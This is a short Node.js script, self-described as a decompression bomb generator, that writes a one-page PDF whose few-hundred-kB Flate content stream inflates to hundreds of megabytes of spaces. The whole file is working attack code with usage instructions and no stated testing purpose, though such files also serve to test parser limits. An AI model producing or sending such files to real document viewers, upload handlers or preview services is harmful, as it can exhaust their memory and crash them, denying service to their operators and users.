// Writes a decompression bomb: a one-page PDF whose content stream is a few hundred kB of Flate
// data that inflates to MB megabytes of spaces. Usage: node bomb-pdf.mjs OUT.pdf MB
import { createDeflate } from 'node:zlib';
import { writeFileSync } from 'node:fs';

const mb = Number(process.argv[3] ?? 600);
const d = createDeflate({ level: 9 });
const chunks = [];
d.on('data', (c) => chunks.push(c));
const block = Buffer.alloc(1 << 20, 0x20);
for (let i = 0; i < mb; i++) d.write(block);
d.end();
await new Promise((r) => d.on('end', r));
const z = Buffer.concat(chunks);
const objs = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
];
let out = Buffer.from('%PDF-1.4\n', 'latin1');
const offsets = [];
const push = (b) => { out = Buffer.concat([out, b]); };
objs.forEach((o, i) => { offsets.push(out.length); push(Buffer.from(`${i + 1} 0 obj\n${o}\nendobj\n`, 'latin1')); });
offsets.push(out.length);
push(Buffer.from(`4 0 obj\n<< /Length ${z.length} /Filter /FlateDecode >>\nstream\n`, 'latin1')); push(z); push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
const xref = out.length;
let x = `xref\n0 5\n0000000000 65535 f \n`; for (const o of offsets) x += `${String(o).padStart(10, '0')} 00000 n \n`;
x += `trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
push(Buffer.from(x, 'latin1'));
writeFileSync(process.argv[2], out);
console.log(out.length);
